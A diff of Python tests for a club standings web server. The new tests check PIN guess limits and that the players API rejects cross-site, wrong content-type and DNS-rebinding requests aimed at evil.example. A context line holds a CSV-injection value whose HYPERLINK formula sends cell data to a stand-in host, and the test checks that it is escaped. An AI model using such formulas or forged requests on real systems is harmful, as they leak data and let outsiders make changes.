@@ -369,7 +369,10 @@ def test_the_standings_page_and_the_directors_changes_with_the_pin(tmp_path):
     base = "http://127.0.0.1:%d" % port
 
     def post(path, body):
-        request = urllib.request.Request(base + path, json.dumps(body).encode(), method="POST")
+        request = urllib.request.Request(
+            base + path, json.dumps(body).encode(), {"Content-Type": "application/json"},
+            method="POST",
+        )  # fmt: skip
         try:
             with urllib.request.urlopen(request, timeout=5) as answer:
                 return answer.status, json.loads(answer.read())
@@ -608,3 +611,66 @@ def test_a_name_a_spreadsheet_would_run_is_written_as_text_in_the_csv(tmp_path):
         "'+Bob", "'-Cy", "'=HYPERLINK(\"http://x.example/?\"&A1,\"Ann\")", "'@Di", "Ed",
     ]  # fmt: skip
     assert [row[4] for row in rows[1:]] == ["0"] * 5  # numbers stay numbers
+
+
+def test_the_directors_door_bounds_guesses_and_takes_no_change_from_another_site(tmp_path):
+    """Wrong PINs: 10 a minute from one address, 60 in all; an address that sent none is
+    never refused, so the director is not slowed. Another site's page (a form's text/plain,
+    its Origin) and another name (DNS rebinding) change nothing."""
+    import http.client
+
+    from broker import free_port
+    from club import Bridge, PinGuard, make_page_server
+
+    clock = [0.0]
+    guard = PinGuard("20261204", clock=lambda: clock[0])
+    for guess in range(10):  # one address guessing
+        assert guard.check("10.0.0.9", "%08d" % guess) == (403, "the director's PIN is wrong")
+    assert guard.check("10.0.0.9", "20261204") == (429, "too many wrong PINs: try again in 60 s")
+    assert guard.check("10.0.0.1", "20261204") is None  # the director, elsewhere: at once
+    for address in range(2, 7):  # five more addresses: 60 wrong in all this minute
+        for guess in range(10):
+            guard.check("10.0.1.%d" % address, "%08d" % guess)
+    assert guard.check("10.0.2.1", "00000000") == (403, "the director's PIN is wrong")
+    assert guard.check("10.0.2.1", "20261204")[0] == 429  # past 60 in all, after a wrong one
+    assert guard.check("10.0.0.1", "20261204") is None  # never a wrong one: never slowed
+    clock[0] = 61.0  # the next minute: counted afresh
+    assert guard.check("10.0.0.9", "20261204") is None
+
+    night = Night(str(tmp_path / "night.sqlite"))
+    bridge = Bridge(night, "oakclub", "127.0.0.1", free_port())
+    port = free_port()
+    server = make_page_server(bridge, "127.0.0.1", port, "4711")
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+
+    def post(body, headers):
+        connection = http.client.HTTPConnection("127.0.0.1", port, timeout=5)
+        try:
+            connection.request("POST", "/api/players", body, headers)
+            answer = connection.getresponse()
+            return answer.status, json.loads(answer.read())
+        finally:
+            connection.close()
+
+    here = "127.0.0.1:%d" % port
+    change = json.dumps({"pin": "4711", "add": ["Mallory"]})
+    try:
+        assert post(change, {"Content-Type": "text/plain"}) == (
+            415, {"error": "the director's changes are sent as application/json"})  # fmt: skip
+        assert post(change, {"Content-Type": "application/json",
+                             "Origin": "http://evil.example"}) == (
+            403, {"error": "a change comes from this page's own address, not"
+                           " http://evil.example"})  # fmt: skip
+        assert post(change, {"Content-Type": "application/json",
+                             "Host": "evil.example:%d" % port}) == (
+            421, {"error": "this page answers to its own address, not evil.example:%d"
+                           % port})  # fmt: skip
+        assert night.standings() == []  # nothing changed
+        assert (
+            post(change, {"Content-Type": "application/json", "Origin": "http://" + here})[0]
+            == 200
+        )
+        assert [row[1] for row in night.standings()] == ["Mallory"]
+    finally:
+        server.shutdown()
+        server.server_close()
